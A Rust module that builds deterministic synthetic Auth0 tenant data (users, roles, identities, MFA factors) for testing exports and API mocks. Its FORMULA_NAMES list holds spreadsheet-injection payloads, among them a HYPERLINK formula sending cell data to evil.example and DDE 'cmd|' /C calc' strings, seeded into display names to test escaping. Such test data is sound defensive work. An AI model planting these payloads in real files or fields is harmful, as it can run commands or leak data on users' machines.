//! Deterministic tenant data: users, roles, memberships and MFA factors rebuilt from (seed, index).

use chrono::{DateTime, Utc};
use serde_json::{json, Map, Value};

use crate::nasty::{self, RawUser};

/// splitmix64: tiny, fast and good enough to make every user reproducible on its own.
#[derive(Clone, Debug)]
pub struct Rng(u64);

/// The splitmix64 finaliser; a bijection on u64, so distinct inputs give distinct ids.
pub fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(mix(seed))
    }

    /// An independent stream for one (seed, entity, purpose) triple.
    pub fn stream(seed: u64, index: u64, salt: u64) -> Rng {
        Rng::new(mix(seed ^ 0x5151_5151) ^ mix(index.wrapping_mul(8).wrapping_add(salt)))
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        mix(self.0)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }

    pub fn f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }

    pub fn chance(&mut self, p: f64) -> bool {
        self.f64() < p
    }

    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }

    pub fn alnum(&mut self, n: usize) -> String {
        (0..n).map(|_| ALNUM[self.below(ALNUM.len() as u64) as usize] as char).collect()
    }

    pub fn hex(&mut self, n: usize) -> String {
        (0..n).map(|_| char::from_digit(self.below(16) as u32, 16).unwrap_or('0')).collect()
    }
}

/// Salts of the per-user random streams.
const SALT_USER: u64 = 1;
const SALT_ROLES: u64 = 2;
const SALT_MFA: u64 = 3;
const SALT_NASTY: u64 = 4;

/// ISO-8601 UTC with milliseconds, as Auth0 prints dates.
pub fn iso_ms(ms: i64) -> String {
    DateTime::<Utc>::from_timestamp_millis(ms).unwrap_or_default().format("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

/// 2016-01-01T00:00:00Z, the earliest generated date.
const EPOCH_2016_MS: i64 = 1_451_606_400_000;
const YEAR_MS: u64 = 365 * 24 * 3600 * 1000;

pub struct Connection {
    pub id: String,
    pub name: &'static str,
    pub strategy: &'static str,
}

pub const CONNECTION_NAMES: [(&str, &str); 3] =
    [("Username-Password-Authentication", "auth0"), ("google-oauth2", "google-oauth2"), ("corp", "samlp")];

#[derive(Clone, Debug, serde::Serialize)]
pub struct Role {
    pub id: String,
    pub name: String,
    pub description: String,
}

const ROLE_NAMES: [&str; 20] = [
    "Billing Admin",
    "Rédacteur en chef",
    "read-only",
    "管理者",
    "Support Tier 1",
    "Support Tier 2",
    "مدير المحتوى",
    "Ops/On-call",
    "auditor",
    "Développeur",
    "Data \"Steward\"",
    "Sales, EMEA",
    "Gerente de Ventas",
    "運用担当",
    "👑 Owner",
    "Security Analyst",
    "ReadWrite",
    "Guest",
    "Партнёр",
    "Marketing & PR",
];

const ROLE_DESCRIPTIONS: [&str; 5] = [
    "Can manage invoices, refunds and payment methods",
    "Peut publier, modifier et supprimer des articles",
    "Read-only access; no \"write\" scopes",
    "Line one\nLine two, with a comma",
    "",
];

const FIRST: [&str; 24] = [
    "José",
    "Zoë",
    "François",
    "Łukasz",
    "Søren",
    "Anne",
    "O'Neil",
    "Jean-Luc",
    "Björk",
    "Nguyễn",
    "Chloé",
    "محمد",
    "שרה",
    "Ольга",
    "さくら",
    "李",
    "Ana María",
    "Mary \"Mo\"",
    "Émilie",
    "Kenji",
    "Priya",
    "🦄 Uni",
    "Dr. Ada",
    "Ömer",
];
const LAST: [&str; 20] = [
    "García",
    "Müller",
    "Ødegård",
    "Smith",
    "D'Angelo",
    "van der Berg",
    "Nakamura",
    "王",
    "Kowalski",
    "Al-Farsi",
    "Cohen",
    "Иванова",
    "Martín, Jr.",
    "Dupont",
    "O\"Hara",
    "Łącki",
    "佐藤",
    "Nøkleby",
    "Brown 🎸",
    "Singh",
];
const ASCII_FIRST: [&str; 12] =
    ["jose", "zoe", "francois", "lukasz", "soren", "anne", "oneil", "jeanluc", "bjork", "chloe", "kenji", "priya"];
const ASCII_LAST: [&str; 10] =
    ["garcia", "muller", "odegard", "smith", "dangelo", "vanderberg", "nakamura", "kowalski", "cohen", "dupont"];
const BIOS: [&str; 6] = [
    "Line one\nLine two, with \"quotes\" and, commas",
    "مرحبا بالعالم — RTL text",
    "Emoji 🎉🔥 and a tab\there",
    "CSV injection attempt: =SUM(A1:A2)",
    "Backslash \\ and slash / and unicode ß",
    "日本語のテキスト",
];

/// Compact, precomputed indexes; everything else is regenerated on demand.
pub struct Tenant {
    pub seed: u64,
    pub mfa_share: f64,
    pub tenant: String,
    pub connections: Vec<Connection>,
    pub roles: Vec<Role>,
    /// user_id by index.
    pub ids: Vec<Box<str>>,
    /// connection index by user index.
    pub conn: Vec<u8>,
    /// user indexes sorted by user_id (also the id -> index lookup, by binary search: a second map of
    /// every id would cost ~80 MB at a million users).
    pub sorted: Vec<u32>,
    /// per role: (assignment time ms, user index) sorted by (time, user_id).
    pub members: Vec<Vec<(i64, u32)>>,
}

impl Tenant {
    pub fn generate(seed: u64, users: u64, roles: u32, mfa_share: f64, tenant: &str) -> Tenant {
        let connections = CONNECTION_NAMES
            .iter()
            .enumerate()
            .map(|(i, (name, strategy))| Connection {
                id: format!("con_{}", Rng::stream(seed, i as u64, 7).alnum(16)),
                name,
                strategy,
            })
            .collect();
        let roles: Vec<Role> = (0..roles)
            .map(|r| {
                let mut rng = Rng::stream(seed, r as u64, 6);
                let base = ROLE_NAMES[r as usize % ROLE_NAMES.len()];
                let round = r as usize / ROLE_NAMES.len();
                let name = if round == 0 { base.to_string() } else { format!("{base} {}", round + 1) };
                Role {
                    id: format!("rol_{}", rng.alnum(16)),
                    name,
                    description: rng.pick(&ROLE_DESCRIPTIONS).to_string(),
                }
            })
            .collect();
        let n = users as usize;
        let mut ids = Vec::with_capacity(n);
        let mut conn = Vec::with_capacity(n);
        let mut members: Vec<Vec<(i64, u32)>> = vec![Vec::new(); roles.len()];
        for i in 0..users {
            let base = UserBase::new(seed, i);
            for r in user_role_indexes(seed, i, roles.len() as u32) {
                members[r as usize].push((assign_time(seed, i, r, base.created_ms), i as u32));
            }
            ids.push(base.user_id.into_boxed_str());
            conn.push(base.conn);
        }
        let mut sorted: Vec<u32> = (0..users as u32).collect();
        sorted.sort_by(|a, b| ids[*a as usize].cmp(&ids[*b as usize]));
        for m in &mut members {
            m.sort_by(|a, b| (a.0, &ids[a.1 as usize]).cmp(&(b.0, &ids[b.1 as usize])));
            m.shrink_to_fit();
        }
        Tenant { seed, mfa_share, tenant: tenant.to_string(), connections, roles, ids, conn, sorted, members }
    }

    pub fn len(&self) -> u64 {
        self.ids.len() as u64
    }

    pub fn index_of(&self, user_id: &str) -> Option<u32> {
        let pos = self.sorted.binary_search_by(|i| (*self.ids[*i as usize]).cmp(user_id)).ok()?;
        Some(self.sorted[pos])
    }

    /// The full user object, as GET /users/{id} would return it (numbers past f64 are lossy here).
    #[cfg(test)]
    pub fn user(&self, idx: u32) -> Value {
        nasty::to_value(&self.user_raw(idx))
    }

    /// The full user object as exact JSON text: top-level keys sorted, each with its value's JSON text.
    pub fn user_raw(&self, idx: u32) -> RawUser {
        let plain = build_user(self.seed, idx as u64, &self.connections);
        nasty::nastify(plain, &mut Rng::stream(self.seed, idx as u64, SALT_NASTY), idx as u64)
    }

    /// Whether the user holds the role (by role index).
    pub fn has_role(&self, idx: u32, role: u32) -> bool {
        self.role_indexes(idx).contains(&role)
    }

    /// Role indexes of a generated user, in role order.
    pub fn role_indexes(&self, idx: u32) -> Vec<u32> {
        user_role_indexes(self.seed, idx as u64, self.roles.len() as u32)
    }

    /// `(user_id, connection index)` the generator gives index `gen`, also past the tenant's users
    /// (where added users come from: ids stay unique, the generator is a bijection).
    pub fn generated(&self, gen: u64) -> (String, u8) {
        let base = UserBase::new(self.seed, gen);
        (base.user_id, base.conn)
    }

    /// Items of GET /users/{id}/authentication-methods, in API order.
    pub fn auth_methods(&self, idx: u32) -> Vec<Value> {
        let base = UserBase::new(self.seed, idx as u64);
        build_methods(self, idx as u64, &base)
    }
}

/// The few per-user facts needed for indexes, drawn first from the user stream.
struct UserBase {
    rng: Rng,
    conn: u8,
    user_id: String,
    local: String,
    created_ms: i64,
}

impl UserBase {
    fn new(seed: u64, idx: u64) -> UserBase {
        let mut rng = Rng::stream(seed, idx, SALT_USER);
        let roll = rng.below(100);
        let conn = match roll {
            0..=59 => 0,
            60..=84 => 1,
            _ => 2,
        };
        let unique = mix(idx ^ mix(seed));
        let local = format!("{}.{}", rng.pick(&ASCII_FIRST), rng.pick(&ASCII_LAST));
        let user_id = match conn {
            0 => format!("auth0|{unique:016x}{}", rng.hex(8)),
            1 => format!("google-oauth2|1{unique:020}"),
            _ => format!("samlp|corp|{local}{idx}@corp.example"),
        };
        let created_ms = EPOCH_2016_MS + rng.below(8 * YEAR_MS) as i64;
        UserBase { rng, conn, user_id, local, created_ms }
    }
}

/// Role indexes of a user: some have none, some have all, role 0 is very popular.
fn user_role_indexes(seed: u64, idx: u64, roles: u32) -> Vec<u32> {
    let mut rng = Rng::stream(seed, idx, SALT_ROLES);
    let kind = rng.below(100);
    match kind {
        0..=24 => Vec::new(),
        25..=27 => (0..roles).collect(),
        _ => (0..roles).filter(|r| rng.chance(if *r == 0 { 0.5 } else { 0.12 })).collect(),
    }
}

fn assign_time(seed: u64, idx: u64, role: u32, created_ms: i64) -> i64 {
    let mut rng = Rng::stream(seed, idx, 16 + role as u64);
    created_ms + rng.below(YEAR_MS) as i64
}

/// Display names starting with what spreadsheets treat as a formula (OWASP's CSV injection list).
const FORMULA_NAMES: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 555 0100 (call me)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab Leading",
    "\r=1+1",
];

fn build_user(seed: u64, idx: u64, connections: &[Connection]) -> Value {
    let base = UserBase::new(seed, idx);
    let mut rng = base.rng.clone();
    let conn = &connections[base.conn as usize];
    let mut u = Map::new();
    u.insert("user_id".into(), json!(base.user_id));
    let first = *rng.pick(&FIRST);
    let last = *rng.pick(&LAST);
    let email = match base.conn {
        0 if rng.chance(0.12) => None,
        0 => Some(format!("{}{}@example.com", base.local, idx)),
        1 => Some(format!("{}{}@gmail.com", base.local, idx)),
        _ => Some(format!("{}{}@corp.example", base.local, idx)),
    };
    if let Some(email) = &email {
        u.insert("email".into(), json!(email));
        u.insert("email_verified".into(), json!(base.conn != 0 || rng.chance(0.7)));
    }
    if base.conn == 0 && (email.is_none() || rng.chance(0.4)) {
        u.insert("username".into(), json!(format!("user_{idx}_{}", rng.alnum(4))));
    }
    if rng.chance(0.2) {
        u.insert("phone_number".into(), json!(format!("+1555{:07}", rng.below(10_000_000))));
        u.insert("phone_verified".into(), json!(rng.chance(0.5)));
    }
    let full = format!("{first} {last}");
    let name = match (rng.below(4), &email) {
        // Names a spreadsheet would run as formulas: real tenants hold them (sign-up forms take
        // anything). Chosen by index, so the rest of the user's values do not shift.
        _ if idx % 23 == 7 => FORMULA_NAMES[(idx / 23) as usize % FORMULA_NAMES.len()].to_owned(),
        (0, Some(e)) => e.clone(),
        _ => full,
    };
    u.insert("name".into(), json!(name));
    u.insert("nickname".into(), json!(if rng.chance(0.5) { base.local.clone() } else { first.to_string() }));
    if rng.chance(0.7) {
        u.insert("given_name".into(), json!(first));
        u.insert("family_name".into(), json!(last));
    }
    u.insert(
        "picture".into(),
        json!(format!(
            "https://s.gravatar.com/avatar/{}?s=480&r=pg&d=https%3A%2F%2Fcdn.auth0.com%2Favatars%2F{}.png",
            rng.hex(32),
            &base.local[..2]
        )),
    );
    let created = base.created_ms;
    let updated = created + rng.below(YEAR_MS) as i64;
    u.insert("created_at".into(), json!(iso_ms(created)));
    u.insert("updated_at".into(), json!(iso_ms(updated)));
    u.insert("identities".into(), identities(&mut rng, &base, conn, idx));
    if rng.chance(0.8) {
        u.insert("app_metadata".into(), app_metadata(&mut rng, idx));
    }
    if rng.chance(0.75) {
        u.insert("user_metadata".into(), user_metadata(&mut rng));
    }
    if rng.chance(0.1) {
        let mf = if rng.chance(0.5) { "guardian" } else { "google-authenticator" };
        u.insert("multifactor".into(), json!([mf]));
        u.insert("multifactor_last_modified".into(), json!(iso_ms(created + rng.below(YEAR_MS / 2) as i64)));
    }
    let logins = if rng.chance(0.1) { 0 } else { 1 + rng.below(500) };
    if logins > 0 {
        let ip = if rng.chance(0.8) {
            format!("203.0.113.{}", rng.below(255))
        } else {
            format!("2001:db8::{:x}", rng.below(65535))
        };
        u.insert("last_ip".into(), json!(ip));
        u.insert("last_login".into(), json!(iso_ms(created + rng.below((updated - created) as u64 + 1) as i64)));
    }
    if base.conn == 0 && rng.chance(0.15) {
        u.insert("last_password_reset".into(), json!(iso_ms(created + rng.below(YEAR_MS) as i64)));
    }
    u.insert("logins_count".into(), json!(logins));
    match rng.below(20) {
        0 => {
            u.insert("blocked".into(), json!(true));
        }
        1..=3 => {}
        _ => {
            u.insert("blocked".into(), json!(false));
        }
    }
    if base.conn == 1 {
        // IdP extras outside the default export field set.
        u.insert("locale".into(), json!(*rng.pick(&["fr", "en", "ja", "ar"])));
    }
    Value::Object(u)
}

fn identities(rng: &mut Rng, base: &UserBase, conn: &Connection, idx: u64) -> Value {
    let raw_id = base.user_id.split_once('|').map(|x| x.1).unwrap_or_default();
    let raw_id = if base.conn == 2 { raw_id.trim_start_matches("corp|") } else { raw_id };
    let mut list = vec![json!({
        "connection": conn.name,
        "user_id": raw_id,
        "provider": conn.strategy,
        "isSocial": base.conn == 1,
    })];
    if base.conn == 0 && rng.chance(0.15) {
        list.push(json!({
            "connection": "google-oauth2",
            "user_id": format!("2{:020}", rng.next_u64()),
            "provider": "google-oauth2",
            "isSocial": true,
            "profileData": {
                "email": format!("{}.linked{}@gmail.com", base.local, idx),
                "email_verified": true,
                "name": "Linked, \"Account\"",
                "locale": "pt-BR",
            },
        }));
    }
    Value::Array(list)
}

fn app_metadata(rng: &mut Rng, idx: u64) -> Value {
    let mut m = Map::new();
    if rng.chance(0.7) {
        m.insert("plan".into(), json!(*rng.pick(&["free", "pro", "enterprise, annual"])));
    }
    if rng.chance(0.5) {
        m.insert("tenant_ids".into(), json!([idx % 7, idx % 11, rng.below(1000)]));
    }
    if rng.chance(0.5) {
        m.insert(
            "flags".into(),
            json!({"beta": rng.chance(0.5), "nested": {"deep": {"deeper": [1, "two", {"three": 3}]}}}),
        );
    }
    if rng.chance(0.3) {
        m.insert("note".into(), json!(*rng.pick(&BIOS)));
    }
    if rng.chance(0.2) {
        m.insert("external_id".into(), Value::Null);
    }
    Value::Object(m)
}

fn user_metadata(rng: &mut Rng) -> Value {
    let mut m = Map::new();
    if rng.chance(0.6) {
        let languages = &["fr", "en", "ja"][..1 + rng.below(3) as usize];
        m.insert(
            "preferences".into(),
            json!({
                "theme": *rng.pick(&["dark", "light"]),
                "languages": languages,
                "notifications": {"email": rng.chance(0.5), "sms": rng.chance(0.5)},
            }),
        );
    }
    if rng.chance(0.5) {
        m.insert("bio".into(), json!(*rng.pick(&BIOS)));
    }
    if rng.chance(0.3) {
        m.insert(
            "address".into(),
            json!({"street": "1, rue de l'Église", "city": "Zürich", "zip": "8001", "lines": ["c/o \"Acme\"", "étage 3"]}),
        );
    }
    if rng.chance(0.3) {
        m.insert("score".into(), json!(rng.below(1000) as f64 / 8.0));
    }
    if rng.chance(0.2) {
        m.insert("consent".into(), json!({"given": true, "at": iso_ms(EPOCH_2016_MS)}));
    }
    Value::Object(m)
}

pub const MFA_TYPES: [&str; 8] =
    ["totp", "phone", "email", "webauthn-platform", "webauthn-roaming", "push", "recovery-code", "passkey"];

fn build_methods(tenant: &Tenant, idx: u64, base: &UserBase) -> Vec<Value> {
    let mut rng = Rng::stream(tenant.seed, idx, SALT_MFA);
    let mut t = base.created_ms + rng.below(YEAR_MS / 4) as i64;
    let mut out = Vec::new();
    if base.conn == 0 && rng.chance(0.9) {
        out.push(json!({
            "id": format!("password|dev_{}", rng.alnum(16)),
            "type": "password",
            "created_at": iso_ms(base.created_ms),
        }));
    }
    let mut types: Vec<(&str, bool)> = Vec::new();
    if rng.chance(tenant.mfa_share) {
        let n = 1 + rng.below(3) as usize;
        while types.len() < n {
            let ty = *rng.pick(&MFA_TYPES);
            if !types.iter().any(|(t, _)| *t == ty) {
                types.push((ty, true));
            }
        }
        if rng.chance(0.2) {
            types.insert(0, ("phone", false));
        }
    } else if rng.chance(0.3) {
        types.push((*rng.pick(&["totp", "phone", "webauthn-roaming"]), false));
    }
    for (ty, confirmed) in types {
        t += rng.below(30 * 24 * 3600 * 1000) as i64;
        out.push(method(&mut rng, ty, confirmed, t, &tenant.tenant));
    }
    out
}

pub fn method(rng: &mut Rng, ty: &str, confirmed: bool, t: i64, tenant: &str) -> Value {
    let dev = format!("dev_{}", rng.alnum(16));
    let mut m = Map::new();
    m.insert("id".into(), json!(format!("{ty}|{dev}")));
    m.insert("type".into(), json!(ty));
    m.insert("confirmed".into(), json!(confirmed));
    match ty {
        "totp" if rng.chance(0.5) => {
            m.insert("name".into(), json!("Authy, \"work\""));
        }
        "phone" => {
            let last4 = rng.below(10_000);
            m.insert("name".into(), json!(format!("+1 (555) ***-{last4:04}")));
            m.insert("phone_number".into(), json!(format!("XXXXXXXXXX{last4:04}")));
            let voice = rng.chance(0.3);
            m.insert("preferred_authentication_method".into(), json!(if voice { "voice" } else { "sms" }));
            let mut subs = vec![json!({"id": format!("sms|{dev}"), "type": "sms"})];
            if voice {
                subs.push(json!({"id": format!("voice|{dev}"), "type": "voice"}));
            }
            m.insert("authentication_methods".into(), Value::Array(subs));
        }
        "email" => {
            m.insert("name".into(), json!("MyEmail"));
            m.insert("email".into(), json!("****@exam*******"));
        }
        "webauthn-platform" | "webauthn-roaming" => {
            let name = if ty == "webauthn-platform" { "MacBook Touch ID 🍎" } else { "YubiKey 5C NFC" };
            m.insert("name".into(), json!(name));
            m.insert("key_id".into(), json!(rng.alnum(43)));
            m.insert("public_key".into(), json!(format!("pQECAyYgASFYI{}", rng.alnum(40))));
            m.insert("relying_party_identifier".into(), json!(format!("{tenant}.auth0.com")));
        }
        "push" => {
            m.insert("name".into(), json!(*rng.pick(&["iPhone de José", "Pixel 8", "Nexus 5X"])));
            m.insert("preferred_authentication_method".into(), json!("push"));
            m.insert(
                "authentication_methods".into(),
                json!([{"id": format!("push|{dev}"), "type": "push"}, {"id": format!("totp|{dev}"), "type": "totp"}]),
            );
        }
        "passkey" => {
            m.insert("name".into(), json!("iCloud Keychain"));
            m.insert("credential_device_type".into(), json!("multi_device"));
            m.insert("credential_backed_up".into(), json!(true));
            m.insert("user_agent".into(), json!("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_0)"));
            m.insert("transports".into(), json!(["internal", "hybrid"]));
            m.insert("aaguid".into(), json!("fbfc3007-154e-4ecc-8c0b-6e020557d7bd"));
        }
        _ => {}
    }
    m.insert("created_at".into(), json!(iso_ms(t)));
    if confirmed {
        m.insert("enrolled_at".into(), json!(iso_ms(t + 20_000)));
        if rng.chance(0.7) {
            m.insert("last_auth_at".into(), json!(iso_ms(t + 20_000 + rng.below(YEAR_MS) as i64)));
        }
    }
    Value::Object(m)
}

/// GET /users/{id}/authenticators: the MFA factors (no password) with core fields only.
pub fn authenticators(methods: &[Value]) -> Vec<Value> {
    const KEEP: [&str; 8] = ["id", "type", "confirmed", "name", "created_at", "enrolled_at", "last_auth_at", "link_id"];
    methods
        .iter()
        .filter(|m| m["type"] != "password")
        .map(|m| {
            let obj = m.as_object().cloned().unwrap_or_default();
            Value::Object(obj.into_iter().filter(|(k, _)| KEEP.contains(&k.as_str())).collect())
        })
        .collect()
}

/// GET /users/{id}/enrollments: only the first confirmed Guardian enrollment.
pub fn enrollments(methods: &[Value]) -> Vec<Value> {
    let Some(m) = methods
        .iter()
        .find(|m| m["confirmed"] == true && matches!(m["type"].as_str(), Some("push" | "phone" | "totp")))
    else {
        return Vec::new();
    };
    let id = m["id"].as_str().and_then(|s| s.split_once('|')).map(|x| x.1);
    let mut e = Map::new();
    e.insert("id".into(), json!(id));
    e.insert("status".into(), json!("confirmed"));
    // Unset values are omitted: the SDKs parse `last_auth` as a date and `phone_number`/`identifier` as strings.
    let (ty, method) = match m["type"].as_str() {
        Some("push") => {
            let dev = id.unwrap_or_default().bytes().fold(0xfeed, |h, b| mix(h ^ b as u64));
            e.insert("name".into(), m["name"].clone());
            e.insert("identifier".into(), json!(format!("{dev:016x}")));
            ("pn", "guardian")
        }
        Some("phone") => {
            e.insert("name".into(), m["name"].clone());
            e.insert("phone_number".into(), m["phone_number"].clone());
            ("sms", "sms")
        }
        _ => ("totp", "authenticator"),
    };
    e.insert("type".into(), json!(ty));
    e.insert("auth_method".into(), json!(method));
    if let Some(v) = m.get("enrolled_at") {
        e.insert("enrolled_at".into(), v.clone());
    }
    if let Some(v) = m.get("last_auth_at") {
        e.insert("last_auth".into(), v.clone());
    }
    vec![Value::Object(e)]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_unique() {
        let a = Tenant::generate(7, 3000, 20, 0.3, "t");
        let b = Tenant::generate(7, 3000, 20, 0.3, "t");
        assert_eq!(a.user(123), b.user(123));
        assert_eq!(a.sorted.len(), 3000);
        for i in [0u32, 5, 1234, 2999] {
            assert_eq!(a.index_of(&a.ids[i as usize]), Some(i));
        }
        assert_eq!(a.index_of("auth0|nope"), None);
        assert_eq!(a.user(5)["user_id"].as_str(), Some(&*a.ids[5]));
    }
}
